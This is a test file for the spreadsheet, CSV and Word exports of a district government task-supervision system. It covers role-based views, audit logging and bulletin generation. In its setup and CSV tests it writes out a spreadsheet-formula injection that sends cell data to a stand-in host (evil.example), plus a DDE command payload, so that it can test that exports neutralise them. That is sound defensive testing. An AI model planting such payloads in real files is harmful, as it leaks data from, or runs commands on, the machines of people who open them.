import { and, eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditLog, reportingPeriods, tasks, users } from '@/db/schema';
import { ForbiddenError } from '@/lib/auth/permissions';
import { saveReport } from '@/lib/reporting/report-service';
import { seedIfEmpty } from '@/lib/seed/seed';
import { actorFor, createTempDb } from '@/lib/testing/temp-db';
import { addTestList, addTestReport } from '@/lib/assessment/test-lists';
import { activePlans } from '@/lib/plans/plan-scope';
import { getBulletin, listBulletinMonths, resolveBulletinMonth } from './bulletin';
import { bulletinContent } from './bulletin-content';
import { writeBulletinDocx } from './bulletin-docx';
import { csvField, neutralizeFormula, toCsv, UTF8_BOM } from './csv';
import { exportBulletinDocx, exportLedger, getExportsPage } from './export-service';
import { runExport } from './http';
import { getLedgerExport, ledgerTable } from './ledger-export';
import { LEDGER_HEADER_ROW, writeLedgerCsv, writeLedgerXlsx } from './ledger-files';

const TODAY = '2023-11-22';
const NOW = new Date('2023-11-22T09:30:00+08:00');

let env: ReturnType<typeof createTempDb>;
let nov: number;
let oct: number;
const idOf = (username: string) => env.db.select({ id: users.id }).from(users).where(eq(users.username, username)).get()!.id;
const taskId = (no: number) => env.db.select({ id: tasks.id }).from(tasks).where(eq(tasks.no, no)).get()!.id;
/**
 * The lists in view for the single-list tests: the 2023 key tasks (the demo also publishes the
 * government work report as a second list, as if the user had chosen 重点任务 in the list filter).
 */
const inView = () => activePlans(env.db).filter((p) => p.kind === 'key_tasks');

const supervisor = () => actorFor(env.db, 'supervisor', '区政府督查室', idOf('duchashi'));
const leader = () => actorFor(env.db, 'leader', null, idOf('lingdao'));
const admin = () => actorFor(env.db, 'admin', null, idOf('admin'));
const fgj = () => actorFor(env.db, 'reporter', '区发展和改革局', idOf('fgj'));
const fgjHead = () => actorFor(env.db, 'unit_head', '区发展和改革局', idOf('fgj_head'));
const kjj = () => actorFor(env.db, 'reporter', '区科学技术局', idOf('kjj'));

const KJJ_TEXT = '科技局本月独有的进展：新增高新技术企业12家';
const FGJ_DRAFT = '发改局草稿：尚未报送的进展';
const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
const TRICKY_PROBLEMS = '资金缺口约3,000万元，"要素保障"待协调\n第二行';

beforeAll(async () => {
  env = createTempDb();
  // As on first start in demo mode: the plan, the demo accounts and the sample months.
  await seedIfEmpty(env.db, { demo: true, today: TODAY });
  nov = env.db.select().from(reportingPeriods).where(eq(reportingPeriods.month, '2023-11')).get()!.id;
  oct = env.db.select().from(reportingPeriods).where(eq(reportingPeriods.month, '2023-10')).get()!.id;
  // 区科学技术局 reports on task 15 (sole lead) with text a spreadsheet would run as a formula,
  // and on task 16 (which 区发展和改革局 co-leads); 区发展和改革局 keeps a draft on task 16.
  const base = { periodId: nov, version: 0, percentDone: 80, nextSteps: '', indicatorValues: [] };
  const r15 = saveReport(env.db, kjj(), { ...base, taskId: taskId(15), progress: INJECTION, problems: TRICKY_PROBLEMS }, 'submit', NOW, TODAY);
  const r16 = saveReport(env.db, kjj(), { ...base, taskId: taskId(16), progress: KJJ_TEXT, problems: '' }, 'submit', NOW, TODAY);
  const d16 = saveReport(env.db, fgj(), { ...base, taskId: taskId(16), progress: FGJ_DRAFT, problems: '' }, 'save', NOW, TODAY);
  expect([r15.ok, r16.ok, d16.ok]).toEqual([true, true, true]);
});
afterAll(() => env.cleanup());

async function readXlsx(buffer: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  const ws = wb.getWorksheet('工作台账')!;
  const header = (ws.getRow(LEDGER_HEADER_ROW).values as unknown[]).slice(1).map(String);
  const rows: Record<string, unknown>[] = [];
  ws.eachRow((row, n) => {
    if (n <= LEDGER_HEADER_ROW) return;
    const values = (row.values as unknown[]).slice(1);
    rows.push(Object.fromEntries(header.map((h, i) => [h, values[i] ?? null])));
  });
  return { ws, header, rows };
}

const allText = (rows: Record<string, unknown>[]) => rows.map((r) => Object.values(r).map((v) => String(v ?? '')).join('|')).join('\n');

describe('csv helpers', () => {
  it('neutralises cells that a spreadsheet would run as a formula', () => {
    for (const v of ['=cmd', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) expect(neutralizeFormula(v)).toBe(`'${v}`);
    for (const v of ['区发展和改革局', '85', '已通过 60%', '']) expect(neutralizeFormula(v)).toBe(v);
  });

  it('quotes commas, quotes and line breaks (RFC 4180) and starts with a BOM', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line1\nline2')).toBe('"line1\nline2"');
    expect(csvField('=cmd|\' /C calc\'!A0')).toBe("'=cmd|' /C calc'!A0");
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
    expect(csvField(85)).toBe('85');
    expect(csvField(null)).toBe('');
    const doc = toCsv([
      ['a', 'b'],
      ['1', 'x,y'],
    ]);
    expect(doc.startsWith(UTF8_BOM)).toBe(true);
    expect(doc).toBe(`${UTF8_BOM}a,b\r\n1,"x,y"\r\n`);
  });
});

describe('ledger export (工作台账)', () => {
  it('gives the office all 77 tasks, with the indicator columns and task 15’s targets 85 and 90', async () => {
    const { body, fileName } = await exportLedger(env.db, supervisor(), inView(), 'xlsx', TODAY, NOW);
    expect(fileName).toBe(`工作台账-${TODAY}.xlsx`);
    const { ws, header, rows } = await readXlsx(body);
    expect(rows).toHaveLength(77);
    expect(rows.map((r) => r['序号'])).toEqual(Array.from({ length: 77 }, (_, i) => i + 1));
    expect(String(ws.getRow(1).getCell(1).value)).toContain('工作台账');
    expect(String(ws.getRow(1).getCell(1).value)).toContain(TODAY);
    // Fixed indicator column groups, as many as the task with the most indicators has (5).
    for (let i = 1; i <= 5; i += 1) {
      expect(header).toEqual(expect.arrayContaining([`指标${i}名称`, `指标${i}目标`, `指标${i}累计完成`, `指标${i}完成率`]));
    }
    expect(header).not.toContain('指标6名称');
    expect(header).toEqual(
      expect.arrayContaining(['序号', '部分', '任务', '牵头单位', '参与单位', '本期进展（2023年11月）', '存在问题', '报送状态', '报送预警', '进度预警', '指标预警', '督查亮灯', '2023年9月', '2023年10月', '2023年11月', '2023年12月']),
    );
    const t15 = rows.find((r) => r['序号'] === 15)!;
    expect(t15['任务']).toBe('大力培育科技型企业');
    expect(t15['牵头单位']).toBe('区科学技术局');
    expect(t15['指标1名称']).toBe('国家高新技术企业总量（家）');
    expect(t15['指标1目标']).toBe(85);
    expect(t15['指标2名称']).toBe('科技型中小企业（家）');
    expect(t15['指标2目标']).toBe(90);
    expect(typeof t15['指标1累计完成']).toBe('number');
    expect(t15['报送状态']).toBe('已报送');
    expect(String(t15['报送预警'])).toMatch(/^[红黄绿]：/);
    expect(t15['2023年12月']).toBe('未开始');
    expect(String(t15['2023年11月'])).toBe('已报送 80%');
    // Header frozen, bold, wrapped; column widths set.
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: LEDGER_HEADER_ROW });
    expect(ws.getRow(LEDGER_HEADER_ROW).getCell(1).font?.bold).toBe(true);
    expect(ws.getColumn(3).width).toBeGreaterThan(10);
    expect(ws.getRow(LEDGER_HEADER_ROW + 1).getCell(3).alignment?.wrapText).toBe(true);
  });

  it('shows each lead unit’s submitted text with 【unit】, never a unit’s draft text', async () => {
    const { rows } = await readXlsx(await writeLedgerXlsx(getLedgerExport(env.db, leader(), inView(), TODAY), NOW));
    const t16 = rows.find((r) => r['序号'] === 16)!;
    expect(t16['本期进展（2023年11月）']).toBe(`【区科学技术局】${KJJ_TEXT}`);
    expect(String(t16['报送状态'])).toContain('【区发展和改革局】草稿');
    expect(String(t16['报送状态'])).toContain('【区科学技术局】已报送');
    expect(allText(rows)).not.toContain(FGJ_DRAFT);
  });

  it('neutralises formula text in the .xlsx too', async () => {
    const { rows } = await readXlsx(await writeLedgerXlsx(getLedgerExport(env.db, admin(), inView(), TODAY), NOW));
    const t15 = rows.find((r) => r['序号'] === 15)!;
    expect(t15['本期进展（2023年11月）']).toBe(`'${INJECTION}`);
    expect(t15['存在问题']).toBe(TRICKY_PROBLEMS);
  });

  it('gives unit staff only their unit’s tasks and only their own report text', async () => {
    for (const actor of [fgj(), fgjHead()]) {
      const { body } = await exportLedger(env.db, actor, inView(), 'xlsx', TODAY, NOW);
      const { ws, rows } = await readXlsx(body);
      expect(String(ws.getRow(1).getCell(1).value)).toContain('区发展和改革局');
      expect(rows).toHaveLength(17); // leads 13, joins 4
      for (const r of rows) expect(`${r['牵头单位']}、${r['参与单位']}`).toContain('区发展和改革局');
      const text = allText(rows);
      expect(text).not.toContain(KJJ_TEXT);
      expect(text).not.toContain('【区科学技术局】已报送');
      const t16 = rows.find((r) => r['序号'] === 16)!;
      expect(t16['本期进展（2023年11月）']).toBe(`【区发展和改革局】${FGJ_DRAFT}`);
      expect(t16['报送状态']).toBe('【区发展和改革局】草稿');
      expect(rows.some((r) => r['序号'] === 15)).toBe(false);
      // A task the unit only joins: its own part's state, no lead unit's report.
      const joined = rows.find((r) => !String(r['牵头单位']).includes('区发展和改革局'))!;
      expect(String(joined['报送状态'])).toMatch(/^协办：/);
    }
  });

  it('writes a CSV with BOM, quoted fields and neutralised formulas', async () => {
    const { body, fileName, contentType } = await exportLedger(env.db, supervisor(), inView(), 'csv', TODAY, NOW);
    expect(fileName).toBe(`工作台账-${TODAY}.csv`);
    expect(contentType).toBe('text/csv; charset=utf-8');
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = body.toString('utf8');
    expect(text.startsWith(`${UTF8_BOM}序号,部分,任务,牵头单位,参与单位,指标1名称,指标1目标`)).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`);
    expect(text).toContain('"资金缺口约3,000万元，""要素保障""待协调\n第二行"');
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
    expect(text).toContain('国家高新技术企业总量（家）,85,');
    // 77 data lines after the header (a quoted field may hold line breaks, so count row starts).
    expect(writeLedgerCsv(getLedgerExport(env.db, supervisor(), inView(), TODAY)).match(/\r\n\d+,[一二三四五六七八九十]+、/g)).toHaveLength(77);
  });

  it('gathers the data in bulk, not one query per task', () => {
    const client = env.db.$client;
    const original = client.prepare.bind(client);
    let statements = 0;
    client.prepare = ((source: string) => {
      statements += 1;
      return original(source);
    }) as typeof client.prepare;
    try {
      const model = getLedgerExport(env.db, supervisor(), inView(), TODAY);
      expect(model.rows).toHaveLength(77);
    } finally {
      client.prepare = original;
    }
    expect(statements).toBeLessThan(25);
  });

  it('records each export in the audit trail, with the unit for unit staff', async () => {
    const before = env.db.select().from(auditLog).where(eq(auditLog.action, 'export.ledger')).all().length;
    await exportLedger(env.db, fgj(), inView(), 'csv', TODAY, NOW, { ip: '10.0.0.8' });
    const lines = env.db.select().from(auditLog).where(eq(auditLog.action, 'export.ledger')).all();
    expect(lines).toHaveLength(before + 1);
    const last = lines[lines.length - 1]!;
    expect(last).toMatchObject({ actorId: idOf('fgj'), unitId: fgj().unitId, ip: '10.0.0.8', entityType: 'export' });
    expect(JSON.parse(last.detail!)).toMatchObject({ format: 'csv', rows: 17 });
  });

  it('the table has one cell per column in every row', () => {
    const table = ledgerTable(getLedgerExport(env.db, kjj(), inView(), TODAY));
    for (const row of table.rows) expect(row).toHaveLength(table.columns.length);
  });
});

describe('monthly bulletin (月度调度通报)', () => {
  it('is refused to unit staff', async () => {
    for (const actor of [fgj(), fgjHead(), kjj()]) {
      expect(() => getBulletin(env.db, actor, '2023-11', TODAY)).toThrow(ForbiddenError);
      await expect(exportBulletinDocx(env.db, actor, '2023-11', TODAY, NOW)).rejects.toThrow(ForbiddenError);
      expect(() => listBulletinMonths(env.db, actor, TODAY)).toThrow(ForbiddenError);
      expect(() => resolveBulletinMonth(env.db, actor, String(nov))).toThrow(ForbiddenError);
      expect(getExportsPage(env.db, actor, inView(), TODAY).bulletins).toBeNull();
    }
    expect(env.db.select().from(auditLog).where(eq(auditLog.action, 'export.bulletin')).all()).toHaveLength(0);
  });

  it('summarises the month: reports due, sent, on time, reviewed; parts; lights', () => {
    const b = getBulletin(env.db, leader(), '2023-10', TODAY);
    expect(b.issue.label).toBe('（2023年第10期）');
    expect(b.issuer).toBe('河东区人民政府督查室');
    expect(b.asOf).toBe('2023-10-31');
    const s = b.summary;
    expect(s.tasks).toBe(77);
    expect(s.tasksWithLead).toBe(74);
    expect(s.leadDue).toBe(135);
    expect(s.partsDue).toBe(44);
    expect(s.leadSubmitted).toBe(s.leadApproved + s.leadPendingReview + s.leadReturned);
    expect(s.leadMissing).toBe(s.leadDue - s.leadSubmitted);
    expect(s.leadOnTime).toBeLessThanOrEqual(s.leadSubmitted);
    expect(s.leadOnTimeRate).toBeCloseTo(s.leadOnTime / s.leadDue);
    expect(s.signals.late.red).toBeGreaterThan(0);
    // Every lead report missing after the deadline is on the overdue list, with days overdue as of today.
    const missingLead = b.overdue.filter((o) => o.kind === 'lead');
    expect(missingLead).toHaveLength(s.leadMissing);
    expect(missingLead.every((o) => o.daysOverdue === 28 && o.dueDate === '2023-10-25')).toBe(true);
    // Returned lead reports not yet resubmitted are listed with their resubmission deadline.
    expect(b.overdue.filter((o) => o.kind === 'returned' && o.note.startsWith('牵头'))).toHaveLength(s.leadReturned);
  });

  it('commends the top five by score (ties included) and names lagging units', () => {
    const b = getBulletin(env.db, supervisor(), '2023-10', TODAY);
    expect(b.commended.length).toBeGreaterThanOrEqual(5);
    expect(b.commended.every((u) => (u.rank ?? 99) <= 5)).toBe(true);
    const bottom = [...b.lagging].filter((u) => u.total !== null).sort((x, y) => x.total! - y.total!);
    expect(bottom.length).toBeGreaterThanOrEqual(5);
    // Units with an overdue lead report are lagging, whatever their score, and never commended.
    const lateUnits = new Set(b.overdue.filter((o) => o.kind === 'lead').map((o) => o.unitName));
    expect(lateUnits.has('区科学技术局')).toBe(true);
    for (const name of lateUnits) {
      expect(b.lagging.map((u) => u.unitName)).toContain(name);
      expect(b.commended.map((u) => u.unitName)).not.toContain(name);
    }
    const kjjRow = b.lagging.find((u) => u.unitName === '区科学技术局')!;
    expect(kjjRow.reasons.join('；')).toMatch(/逾期未报送 2 项（任务 15、16）/);
  });

  it('lists the notices issued in the month and those past due', () => {
    const b = getBulletin(env.db, admin(), '2023-11', TODAY);
    expect(b.notices).toEqual([]);
    expect(b.overdue.some((o) => o.kind === 'part' && o.daysOverdue === 2)).toBe(true);
    // The November lead deadline (25th) has not passed: no lead report is overdue yet.
    expect(b.overdue.filter((o) => o.kind === 'lead')).toEqual([]);
  });

  it('has one set of numbered sections for print and Word', () => {
    const c = bulletinContent(getBulletin(env.db, supervisor(), '2023-11', TODAY));
    expect(c.titleLines.join('')).toBe('河东区重点工作任务月度调度通报');
    expect(c.issueLine).toBe('（2023年第11期）');
    expect(c.dateLine).toBe('2023年11月22日');
    expect(c.sections.map((s) => `${s.numeral}、${s.title}`)).toEqual(['一、总体情况', '二、通报表扬', '三、工作滞后单位', '四、逾期事项', '五、督办单下发情况', '六、下步工作要求']);
  });

  it('writes a .docx with the period, the lagging units, A4 and the official fonts', async () => {
    const { body, fileName, contentType } = await exportBulletinDocx(env.db, supervisor(), '2023-10', TODAY, NOW, { ip: '10.0.0.9' });
    expect(fileName).toBe('月度调度通报-2023年10月.docx');
    expect(contentType).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    const zip = await JSZip.loadAsync(body);
    const xml = await zip.file('word/document.xml')!.async('string');
    expect(xml).toContain('（2023年第10期）');
    expect(xml).toContain('2023年10月');
    expect(xml).toContain('河东区人民政府督查室');
    expect(xml).toContain('月度调度通报');
    const b = getBulletin(env.db, supervisor(), '2023-10', TODAY);
    expect(b.lagging.length).toBeGreaterThan(0);
    for (const u of b.lagging) expect(xml).toContain(u.unitName);
    for (const u of b.commended) expect(xml).toContain(u.unitName);
    expect(xml).toContain('w:eastAsia="仿宋_GB2312"');
    expect(xml).toContain('w:eastAsia="方正小标宋简体"');
    expect(xml).toMatch(/<w:pgSz w:w="11906" w:h="16838"/);
    expect(xml).toContain('<w:tbl>');
    const audit = env.db.select().from(auditLog).where(and(eq(auditLog.action, 'export.bulletin'), eq(auditLog.entityId, oct))).all();
    expect(audit).toHaveLength(1);
    expect(audit[0]).toMatchObject({ actorId: idOf('duchashi'), ip: '10.0.0.9' });
  });

  it('is only issued for months that have begun', () => {
    expect(() => getBulletin(env.db, supervisor(), '2023-12', TODAY)).toThrow(/尚未开始/);
    expect(() => getBulletin(env.db, supervisor(), '2022-01', TODAY)).toThrow(/找不到/);
    expect(() => getBulletin(env.db, supervisor(), '9999', TODAY)).toThrow(/找不到/);
    expect(listBulletinMonths(env.db, supervisor(), TODAY).map((p) => p.month)).toEqual(['2023-11', '2023-10', '2023-09']);
    // Older links name a period's id: read as its month.
    expect(resolveBulletinMonth(env.db, supervisor(), String(oct))).toBe('2023-10');
    expect(resolveBulletinMonth(env.db, supervisor(), '2023-10')).toBe('2023-10');
    expect(() => resolveBulletinMonth(env.db, supervisor(), '9999')).toThrow(/找不到/);
  });

  it('the .docx renders a bulletin with empty lists too', async () => {
    const b = getBulletin(env.db, supervisor(), '2023-11', TODAY);
    const buffer = await writeBulletinDocx({ ...b, commended: [], lagging: [], overdue: [], notices: [] });
    const xml = await (await JSZip.loadAsync(buffer)).file('word/document.xml')!.async('string');
    expect(xml).toContain('暂无通报表扬单位');
  });
});

describe('download responses', () => {
  const file = { body: Buffer.from('x'), fileName: '工作台账-2023-11-22.xlsx', contentType: 'application/octet-stream' };

  it('sends an attachment with the Chinese name kept (RFC 5987) and nosniff', async () => {
    const res = await runExport({ ...fgj(), mustChangePassword: false }, async () => file);
    expect(res.status).toBe(200);
    expect(res.headers.get('Content-Disposition')).toBe(`attachment; filename="????-2023-11-22.xlsx"; filename*=UTF-8''${encodeURIComponent('工作台账')}-2023-11-22.xlsx`);
    expect(res.headers.get('X-Content-Type-Options')).toBe('nosniff');
    expect(await res.text()).toBe('x');
  });

  it('refuses with a Chinese message: 401 without a session, 403 when not allowed, 404 when missing', async () => {
    expect((await runExport(null, async () => file)).status).toBe(401);
    const mustChange = await runExport({ ...supervisor(), mustChangePassword: true }, async () => file);
    expect(mustChange.status).toBe(403);
    const forbidden = await runExport({ ...fgj(), mustChangePassword: false }, (actor) => exportBulletinDocx(env.db, actor, '2023-11', TODAY, NOW));
    expect(forbidden.status).toBe(403);
    expect(await forbidden.text()).toMatch(/权限/);
    const missing = await runExport({ ...supervisor(), mustChangePassword: false }, (actor) => exportBulletinDocx(env.db, actor, '2022-01', TODAY, NOW));
    expect(missing.status).toBe(404);
    expect(await missing.text()).toMatch(/找不到/);
  });
});

describe('two active lists (a monthly and a quarterly one)', () => {
  let env2: ReturnType<typeof createTempDb>;
  const id2 = (username: string) => env2.db.select({ id: users.id }).from(users).where(eq(users.username, username)).get()!.id;
  const sup2 = () => actorFor(env2.db, 'supervisor', '区政府督查室', id2('duchashi'));
  const fgj2 = () => actorFor(env2.db, 'reporter', '区发展和改革局', id2('fgj'));
  const both = () => activePlans(env2.db);

  beforeAll(async () => {
    env2 = createTempDb();
    // The 2023 key tasks and the demo accounts only (no sample months, no work report): the list added here is the second.
    await seedIfEmpty(env2.db, { demo: true });
    const { plan, taskIds } = addTestList(env2.db, {
      code: '河东民生〔2023〕1号',
      title: '河东区2023年民生实事项目',
      shortName: '民生实事',
      cadence: 'quarterly',
      weight: 2,
      tasks: [
        { no: 1, title: '新建社区养老服务中心', lead: ['区发展和改革局'], participating: ['区民政局'], leaders: ['王副区长', '李副区长'], deadlineText: '2023年12月底前' },
        { no: 2, title: '改造老旧小区', lead: ['区民政局'] },
        { no: 3, title: '建设科普场馆', lead: ['区科学技术局'] },
      ],
    });
    const sep = env2.db.select().from(reportingPeriods).where(and(eq(reportingPeriods.planId, plan.id), eq(reportingPeriods.month, '2023-09'))).get()!.id;
    addTestReport(env2.db, { taskId: taskIds.get(1)!, periodId: sep, unitName: '区发展和改革局', status: 'approved', submittedAt: new Date('2023-09-20T10:00:00+08:00'), progress: '养老服务中心主体完工' });
  });
  afterAll(() => env2.cleanup());

  it('the ledger covers every list in view, with 清单, 任务编号, 责任领导 and 完成时限', async () => {
    const { body } = await exportLedger(env2.db, sup2(), both(), 'xlsx', TODAY, NOW);
    const { ws, header, rows } = await readXlsx(body);
    expect(rows).toHaveLength(80);
    expect(String(ws.getRow(1).getCell(1).value)).toContain('重点任务、民生实事工作台账');
    expect(header).toEqual(expect.arrayContaining(['清单', '任务编号', '责任领导', '完成时限', '本期月份', '本期进展（各清单本期）', '2023年3月', '2023年6月', '2023年9月', '2023年12月']));
    // The key tasks first, then the livelihood items, each in its order.
    expect(rows.slice(0, 77).every((r) => r['清单'] === '重点任务')).toBe(true);
    expect(rows[0]!['任务编号']).toBe('重点任务 1');
    const item = rows.find((r) => r['任务编号'] === '民生实事 1')!;
    expect(item).toMatchObject({ 清单: '民生实事', 序号: 1, 任务: '新建社区养老服务中心', 责任领导: '王副区长、李副区长', 完成时限: '2023年12月底前', 牵头单位: '区发展和改革局' });
    // A quarterly list: its current period is September (the latest begun); no October period.
    expect(item['本期月份']).toBe('2023年9月');
    expect(item['本期进展（各清单本期）']).toBe('养老服务中心主体完工');
    expect(item['2023年10月']).toBe('不调度');
    expect(String(item['2023年9月'])).toBe('已通过 60%');
    expect(rows.find((r) => r['任务编号'] === '重点任务 15')!['2023年3月']).toBe('不调度');
    expect(rows.find((r) => r['任务编号'] === '重点任务 15')!['本期月份']).toBe('2023年11月');
    const table = ledgerTable(getLedgerExport(env2.db, sup2(), both(), TODAY));
    for (const row of table.rows) expect(row).toHaveLength(table.columns.length);
  });

  it('unit staff get their unit’s tasks of every list; one list in view gives that list only', async () => {
    const mine = getLedgerExport(env2.db, fgj2(), both(), TODAY);
    expect(mine.rows).toHaveLength(18);
    expect(mine.rows.filter((r) => r.planName === '民生实事').map((r) => r.label)).toEqual(['民生实事 1']);
    const livelihood = both().find((p) => p.shortName === '民生实事')!;
    const only = getLedgerExport(env2.db, sup2(), [livelihood], TODAY);
    expect(only.rows.map((r) => r.label)).toEqual(['民生实事 1', '民生实事 2', '民生实事 3']);
    expect(only.months.map((m) => m.month)).toEqual(['2023-03', '2023-06', '2023-09', '2023-12']);
    expect(ledgerTable(only).title).toContain('河东区2023年民生实事项目工作台账');
    // No list in view: an empty ledger.
    expect(getLedgerExport(env2.db, sup2(), [], TODAY).rows).toEqual([]);
    const csv = writeLedgerCsv(getLedgerExport(env2.db, sup2(), both(), TODAY));
    expect(csv).toContain(',民生实事,民生实事 1,王副区长、李副区长,2023年12月底前,');
  });

  it('the bulletin of a month covers every active list with a period in it', () => {
    expect(listBulletinMonths(env2.db, sup2(), TODAY).map((m) => m.month)).toEqual(['2023-11', '2023-10', '2023-09', '2023-06', '2023-03']);
    const sep = getBulletin(env2.db, sup2(), '2023-09', TODAY);
    expect(sep.lists.map((l) => [l.name, l.summary.tasks])).toEqual([
      ['重点任务', 77],
      ['民生实事', 3],
    ]);
    expect(sep.summary.tasks).toBe(80);
    expect(sep.summary.leadDue).toBe(sep.lists[0]!.summary.leadDue + 3);
    expect(sep.summary.leadSubmitted).toBe(sep.lists[0]!.summary.leadSubmitted + 1);
    // 区民政局 and 区科学技术局 did not report on their livelihood items: named with the list.
    const late = sep.overdue.filter((o) => o.kind === 'lead' && o.taskRef.startsWith('民生实事'));
    expect(late.map((o) => [o.taskRef, o.unitName])).toEqual([
      ['民生实事 2', '区民政局'],
      ['民生实事 3', '区科学技术局'],
    ]);
    expect(sep.overdue.filter((o) => o.kind === 'lead' && !o.taskRef.startsWith('民生实事')).every((o) => o.taskRef.startsWith('重点任务 '))).toBe(true);
    const kjjRow = sep.lagging.find((u) => u.unitName === '区科学技术局');
    if (kjjRow) expect(kjjRow.reasons.join('；')).toMatch(/民生实事 3/);
    const c = bulletinContent(sep);
    expect(c.sections[0]!.blocks.some((b) => b.type === 'table' && b.table.id === 'lists')).toBe(true);
    expect(c.sections[0]!.blocks[0]).toMatchObject({ type: 'para', text: expect.stringContaining('重点任务、民生实事 2 个清单共 80 项任务') });
    // October: the quarterly list has no period; the bulletin is the monthly list's alone.
    const oct2 = getBulletin(env2.db, sup2(), '2023-10', TODAY);
    expect(oct2.lists.map((l) => l.name)).toEqual(['重点任务']);
    expect(oct2.overdue.every((o) => /^\d+$/.test(o.taskRef))).toBe(true);
    // June: the quarterly list alone.
    expect(getBulletin(env2.db, sup2(), '2023-06', TODAY).lists.map((l) => l.name)).toEqual(['民生实事']);
  });

  it('the exports page links the bulletins by month', () => {
    const page = getExportsPage(env2.db, sup2(), both(), TODAY);
    expect(page.planTitle).toBe('重点任务、民生实事（2 个清单）');
    expect(page.bulletins?.[0]).toMatchObject({ month: '2023-11', printHref: '/print/bulletin/2023-11', docxHref: '/api/exports/bulletin/2023-11.docx' });
  });
});
